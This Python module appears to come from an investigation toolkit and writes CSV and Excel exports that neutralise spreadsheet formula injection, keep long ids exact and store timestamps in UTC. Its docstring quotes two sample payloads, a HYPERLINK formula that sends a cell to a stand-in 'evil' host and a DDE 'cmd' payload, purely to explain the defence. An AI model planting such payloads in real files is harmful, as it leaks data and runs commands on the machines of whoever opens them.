"""Spreadsheets that are safe to open: no formula injection, ids kept exact.

Usernames, bios and comments are written by the people we investigate. A cell
such as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(1+1)*cmd|' /C calc'!A0``
becomes a live formula when a partner opens our CSV in a spreadsheet. Every
text cell that starts with ``= + - @``, a tab or a carriage return (also after
leading whitespace or invisible format characters) is therefore prefixed with
a single quote ``'``, as the OWASP CSV-injection guidance advises.

Choices, so that readers know what they are looking at:

* The rule is about *text* cells. A text cell ``"-5"`` is neutralised to
  ``"'-5"`` because it is text (a username can be ``-5``); a numeric column
  holding -5 is written as the number -5 and left alone.
* Ids stay strings. Columns with id names (``account_id``, ``*_id``,
  ``account_a``, ...) and integer columns too large for a spreadsheet's
  floats (> 2**53) are written as text, so 19-digit ids and leading zeros
  survive. In Excel they are text cells (type ``s``, number format ``@``).
* Timestamps are UTC: ISO 8601 strings ending in ``Z`` in CSV, tz-naive
  UTC datetimes in Excel with `` (UTC)`` appended to the column header.
  tz-naive input timestamps are taken to be UTC already (the project rule).
* A formula marker after a list separator (``x;=1+1``, ``a,@b``) is
  neutralised too (``x;'=1+1``): where ``;`` is the list separator (German,
  French locales) a spreadsheet may split the row there and start a new
  cell with ``=``. Every text cell is also quoted. Quoting alone does not
  help: read with ``;`` as separator, ``"a","x;=1+1"`` splits into
  ``a,"x`` and ``=1+1"`` (the quotes only count at the start of a field),
  so the marker itself must be defused. The cost is a visible ``'`` inside
  such text, which is rare outside attacks.
* Every file the kit writes goes through :func:`tsinvest.files.atomic_write`
  (re-exported here with :func:`write_text`, :func:`write_bytes`,
  :func:`write_json`): mode 0600, moved into place only once complete.

Examples
--------
>>> neutralise_text(["=1+1", "alice", "  @cmd", "-5", None, "x;=1+1"])
["'=1+1", 'alice', "'  @cmd", "'-5", None, "x;'=1+1"]
"""

from __future__ import annotations

import csv
import math
import os
import re
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import TYPE_CHECKING

import pandas as pd

from tsinvest.exceptions import ParameterError
from tsinvest.files import atomic_write, write_bytes, write_json, write_text

if TYPE_CHECKING:
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.worksheet.worksheet import Worksheet

__all__ = [
    "DANGEROUS_PREFIXES",
    "is_dangerous",
    "neutralise_text",
    "xml_safe_text",
    "safe_frame",
    "to_safe_csv",
    "to_safe_excel",
    "atomic_write",
    "write_text",
    "write_bytes",
    "write_json",
]

#: First characters that make a spreadsheet treat a cell as a formula (OWASP).
DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

# Whitespace and invisible format characters a spreadsheet may skip before the
# formula marker; they must not hide a dangerous first character.
_IGNORABLE = r"\s\u00ad\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u206f\ufeff"
_DANGEROUS_RE = re.compile(f"^[{_IGNORABLE}]*[=+\\-@\\t\\r]")
# A formula marker right after a list separator or a line break: a cell of its
# own where ";" or "," splits the row, or a line of its own where the reader
# does not honour the quotes around a multi-line cell.
_SEPARATED_DANGER_RE = re.compile(f"([;,\\r\\n][{_IGNORABLE}]*)(?=[=+\\-@\\t\\r])")
# Characters XML 1.0 (and so .xlsx) cannot store; openpyxl refuses them. Lone
# surrogates (only a DataFrame can hold them: the loader reads strict UTF-8)
# cannot even be encoded.
_XML_ILLEGAL_RE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_EXCEL_MAX_CELL = 32767
_TRUNCATED = "…[truncated]"
_SHEET_FORBIDDEN = set("[]:*?/\\")
_MAX_SAFE_INTEGER = 2**53 - 1


def is_dangerous(text: str, *, after_separators: bool = False) -> bool:
    """Whether a text cell would be read as a formula by a spreadsheet.

    With ``after_separators`` also when a formula marker follows ``;`` or
    ``,`` (a CSV row split at a locale's list separator).

    Examples
    --------
    >>> is_dangerous("=cmd"), is_dangerous(" \\u200b+1"), is_dangerous("a=b"), is_dangerous("'=1")
    (True, True, False, False)
    >>> is_dangerous("x;=1+1"), is_dangerous("x;=1+1", after_separators=True)
    (False, True)
    >>> is_dangerous("x;'=1", after_separators=True)
    False
    """
    if _DANGEROUS_RE.match(text):
        return True
    return after_separators and bool(_SEPARATED_DANGER_RE.search(text))


def neutralise_text(values: Iterable[object], *, after_separators: bool = True) -> list[object]:
    """Prefix ``'`` to every dangerous string; other values come back unchanged.

    With ``after_separators`` (the default, for CSV) a formula marker after
    ``;`` or ``,`` also gets a ``'`` in front of it. Excel cells are typed and
    never split, so the Excel writer turns it off.

    Examples
    --------
    >>> neutralise_text(["+44 20 7946 0000", "ok", 3, "a;=1+1", "=x;@y"])
    ["'+44 20 7946 0000", 'ok', 3, "a;'=1+1", "'=x;'@y"]
    """
    return [_neutralise_one(value, after_separators) if isinstance(value, str) else value for value in values]


def _neutralise_one(text: str, after_separators: bool) -> str:
    if after_separators:
        text = _SEPARATED_DANGER_RE.sub(r"\1'", text)
    return "'" + text if _DANGEROUS_RE.match(text) else text


def _id_names() -> set[str]:
    from tsinvest.schemas import TABLES

    names = {"id", "account_a", "account_b", "ip", "device_id"}
    for spec in TABLES.values():
        names.update(spec.id_columns)
    return names


def _is_id_column(name: object, id_columns: Sequence[str] | None) -> bool:
    if id_columns is not None:
        return name in id_columns
    return isinstance(name, str) and (name in _id_names() or name.endswith("_id"))


def _text_values(column: pd.Series, *, excel: bool) -> list[object]:
    values = [None if _is_missing(value) else str(value) for value in column.astype(object).tolist()]
    if excel:
        values = [_excel_text(value) if value is not None else None for value in values]
    return neutralise_text(values, after_separators=not excel)


def xml_safe_text(text: str) -> str:
    """``text`` with the characters XML 1.0 cannot store (NUL, most ASCII controls, lone surrogates) as U+FFFD.

    Examples
    --------
    >>> xml_safe_text("a\\x00b\\u202ec") == "a\\ufffdb\\u202ec"
    True
    """
    return _XML_ILLEGAL_RE.sub("\ufffd", text)


def _excel_text(text: str) -> str:
    text = xml_safe_text(text)
    if len(text) > _EXCEL_MAX_CELL:
        text = text[: _EXCEL_MAX_CELL - len(_TRUNCATED)] + _TRUNCATED
    return text


def _is_missing(value: object) -> bool:
    if value is None or value is pd.NA or value is pd.NaT:
        return True
    return isinstance(value, float) and math.isnan(value)


def _prepare(
    frame: pd.DataFrame, *, id_columns: Sequence[str] | None, excel: bool
) -> tuple[list[str], list[list[object]], list[str]]:
    """Column-wise conversion shared by CSV and Excel.

    Returns (headers, columns, kinds) where kinds[i] is "text", "number",
    "bool" or "datetime".
    """
    if not isinstance(frame, pd.DataFrame):
        raise ParameterError("expected a pandas DataFrame")
    headers: list[str] = []
    columns: list[list[object]] = []
    kinds: list[str] = []
    for position, name in enumerate(frame.columns):
        column = frame.iloc[:, position]
        header = str(name)
        dtype = column.dtype
        values: list[object]
        if pd.api.types.is_bool_dtype(dtype) and not _is_id_column(name, id_columns):
            values = [None if _is_missing(value) else bool(value) for value in column.astype(object).tolist()]
            kind = "bool"
        elif pd.api.types.is_datetime64_any_dtype(dtype):
            values, kind = _time_values(column, excel=excel)
            header = f"{header} (UTC)" if excel else header
        elif pd.api.types.is_numeric_dtype(dtype) and not pd.api.types.is_bool_dtype(dtype):
            values, kind = _number_values(column, is_id=_is_id_column(name, id_columns), excel=excel)
        else:
            values, kind = _text_values(column, excel=excel), "text"
        headers.append(header)
        columns.append(values)
        kinds.append(kind)
    header_texts = neutralise_text((_excel_text(h) if excel else h for h in headers), after_separators=not excel)
    return [str(header) for header in header_texts], columns, kinds


def _time_values(column: pd.Series, *, excel: bool) -> tuple[list[object], str]:
    """UTC times: naive datetimes for Excel, ISO 8601 text ending in Z for CSV (microseconds only if any)."""
    utc = column.dt.tz_localize("UTC") if column.dt.tz is None else column.dt.tz_convert("UTC")
    if excel:
        naive = utc.dt.tz_localize(None).astype(object).tolist()
        return [None if _is_missing(value) else value.to_pydatetime() for value in naive], "datetime"
    present = utc.dropna()
    has_fraction = bool(((present.dt.microsecond != 0) | (present.dt.nanosecond != 0)).any())
    pattern = "%Y-%m-%dT%H:%M:%S.%fZ" if has_fraction else "%Y-%m-%dT%H:%M:%SZ"
    return [None if _is_missing(value) else value for value in utc.dt.strftime(pattern).astype(object)], "text"


def _number_values(column: pd.Series, *, is_id: bool, excel: bool) -> tuple[list[object], str]:
    """Numbers as numbers, except ids and integers too large for a spreadsheet's floats, written as text."""
    raw = column.astype(object).tolist()
    too_big = pd.api.types.is_integer_dtype(column.dtype) and any(
        not _is_missing(value) and abs(int(value)) > _MAX_SAFE_INTEGER for value in raw
    )
    if is_id or too_big:
        # Integer ids: str(int) keeps every digit; a float id has already lost them.
        return _text_values(column, excel=excel), "text"
    return [_number(value) for value in raw], "number"


def _number(value: object) -> object:
    if _is_missing(value):
        return None
    if isinstance(value, float) and math.isinf(value):
        # Spreadsheets have no infinity; as text it is neutralised like any other.
        return neutralise_text(["inf" if value > 0 else "-inf"])[0]
    return value.item() if hasattr(value, "item") else value


def safe_frame(frame: pd.DataFrame, *, id_columns: Sequence[str] | None = None) -> pd.DataFrame:
    """The frame as it will be written to CSV: text neutralised, numbers kept, times as ISO UTC.

    Parameters
    ----------
    frame : DataFrame
        Table to share; not modified. The index is dropped (reset it first to keep it).
    id_columns : sequence of str, optional
        Columns to write as text even when numeric. Default: columns named
        like ids (``account_id``, ``*_id``, ``account_a``, ...).

    Returns
    -------
    DataFrame
        Object columns for text, the original numbers for numeric columns.

    Examples
    --------
    >>> frame = pd.DataFrame({"username": ["=evil()", "bob"], "score": [-5, 2],
    ...                       "ts": pd.to_datetime(["2024-05-01 12:00", None], utc=True)})
    >>> safe_frame(frame).to_dict("list")
    {'username': ["'=evil()", 'bob'], 'score': [-5, 2], 'ts': ['2024-05-01T12:00:00Z', None]}
    """
    headers, columns, kinds = _prepare(frame, id_columns=id_columns, excel=False)
    parts = []
    for position, (values, kind) in enumerate(zip(columns, kinds, strict=True)):
        if kind == "number" and not any(isinstance(value, str) for value in values):
            # The original numeric dtype, so the CSV shows 2 and not 2.0.
            parts.append(frame.iloc[:, position].reset_index(drop=True))
        else:
            parts.append(pd.Series(values, dtype=object))
    result = pd.concat(parts, axis=1, ignore_index=True) if parts else pd.DataFrame(index=pd.RangeIndex(len(frame)))
    result.columns = headers
    return result


def to_safe_csv(
    frame: pd.DataFrame,
    path: str | os.PathLike,
    *,
    id_columns: Sequence[str] | None = None,
    encoding: str = "utf-8-sig",
) -> Path:
    """Write a CSV that a spreadsheet opens without running any formula.

    Parameters
    ----------
    frame : DataFrame
        Table to share (the index is not written).
    path : path-like
        Target file; written atomically.
    id_columns : sequence of str, optional
        Columns to write as text even when numeric; see :func:`safe_frame`.
    encoding : str, default "utf-8-sig"
        The byte-order mark makes Excel read non-ASCII usernames correctly.

    Returns
    -------
    Path
        The written file.

    Notes
    -----
    Rows end in CRLF (RFC 4180) so that a lone carriage return inside a cell
    is quoted and cannot split a row. Text cells and headers are always
    quoted; numbers are not. CSV has no cell types: a spreadsheet
    may still show a long id column as a number when it guesses types; open
    the CSV with "import as text" or share the Excel export instead.

    Examples
    --------
    >>> import tempfile, pathlib
    >>> out = to_safe_csv(pd.DataFrame({"account_id": ["0012345678901234567"], "bio": ["@SUM(A1)"]}),
    ...                   pathlib.Path(tempfile.mkdtemp()) / "share.csv")
    >>> out.read_text(encoding="utf-8-sig").splitlines()
    ['"account_id","bio"', '"0012345678901234567","\\'@SUM(A1)"']
    """
    prepared = safe_frame(frame, id_columns=id_columns)
    with atomic_write(path) as temporary:
        prepared.to_csv(
            temporary, index=False, encoding=encoding, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC
        )
    return Path(path)


def _check_sheet_names(names: Sequence[object]) -> None:
    problems = []
    seen: set[str] = set()
    for position, name in enumerate(names, start=1):
        if not isinstance(name, str) or not name.strip():
            problems.append(f"sheet {position}: name must be a non-empty string")
            continue
        if len(name) > 31:
            problems.append(f"sheet {position}: name longer than 31 characters")
        if _SHEET_FORBIDDEN & set(name) or name.startswith("'") or name.endswith("'"):
            problems.append(f"sheet {position}: name contains one of []:*?/\\ or starts/ends with a quote")
        if name.casefold() in seen:
            problems.append(f"sheet {position}: name repeats an earlier one (Excel ignores case)")
        seen.add(name.casefold())
    if problems:
        raise ParameterError("to_safe_excel: invalid sheet names: " + "; ".join(problems))


def _text_cell(sheet: Worksheet, value: object) -> WriteOnlyCell:
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    cell.number_format = "@"
    return cell


def _cell_for(sheet: Worksheet, value: object, kind: str) -> object:
    """One Excel cell: text cells typed as text (never a formula), times with a date format."""
    from openpyxl.cell import WriteOnlyCell

    if value is None:
        return None
    if kind == "text" or isinstance(value, str):
        return _text_cell(sheet, value)
    if kind == "datetime":
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = "yyyy-mm-dd hh:mm:ss"
        return cell
    return value


def to_safe_excel(
    frames_by_sheet_name: Mapping[str, pd.DataFrame],
    path: str | os.PathLike,
    *,
    id_columns: Sequence[str] | None = None,
) -> Path:
    """Write one .xlsx with a sheet per frame: text cells only, never formulas.

    Parameters
    ----------
    frames_by_sheet_name : mapping of str -> DataFrame
        Sheet name (Excel rules: at most 31 characters, none of ``[]:*?/\\``)
        to table. Order is kept.
    path : path-like
        Target ``.xlsx`` file; written atomically.
    id_columns : sequence of str, optional
        Columns to write as text even when numeric; see :func:`safe_frame`.

    Returns
    -------
    Path
        The written file.

    Notes
    -----
    Every text cell is written with type ``s`` and number format ``@``, set
    explicitly after the value, because openpyxl would otherwise store a
    string starting with ``=`` as a formula and ``#N/A`` as an error value.
    Characters XML cannot hold (most ASCII control characters) become U+FFFD
    and cells over Excel's 32 767-character limit are truncated with a marker.
    A carriage return inside a cell is kept (openpyxl writes through lxml, a
    dependency, as a character reference).

    Excel export is meant for findings-sized tables: openpyxl writes roughly
    20 000 cells per second here (100 000 rows x 4 columns in about 20 s);
    share bulk tables as CSV.

    Examples
    --------
    >>> import tempfile, pathlib, openpyxl
    >>> out = to_safe_excel({"accounts": pd.DataFrame({"account_id": ["1234567890123456789"],
    ...                                                  "username": ["=1+1"], "followers": [12]})},
    ...                     pathlib.Path(tempfile.mkdtemp()) / "share.xlsx")
    >>> sheet = openpyxl.load_workbook(out)["accounts"]
    >>> [(cell.value, cell.data_type) for cell in sheet[2]]
    [('1234567890123456789', 's'), ("'=1+1", 's'), (12, 'n')]
    """
    from openpyxl import Workbook

    if not frames_by_sheet_name:
        raise ParameterError("to_safe_excel: frames_by_sheet_name is empty; pass at least one sheet")
    _check_sheet_names(list(frames_by_sheet_name))
    workbook = Workbook(write_only=True)
    for sheet_name, frame in frames_by_sheet_name.items():
        sheet = workbook.create_sheet(title=sheet_name)
        headers, columns, kinds = _prepare(frame, id_columns=id_columns, excel=True)

        sheet.append([_text_cell(sheet, header) for header in headers])
        for row in zip(*columns, strict=True):
            sheet.append([_cell_for(sheet, value, kind) for value, kind in zip(row, kinds, strict=True)])
    with atomic_write(path) as temporary:
        workbook.save(temporary)
    return Path(path)
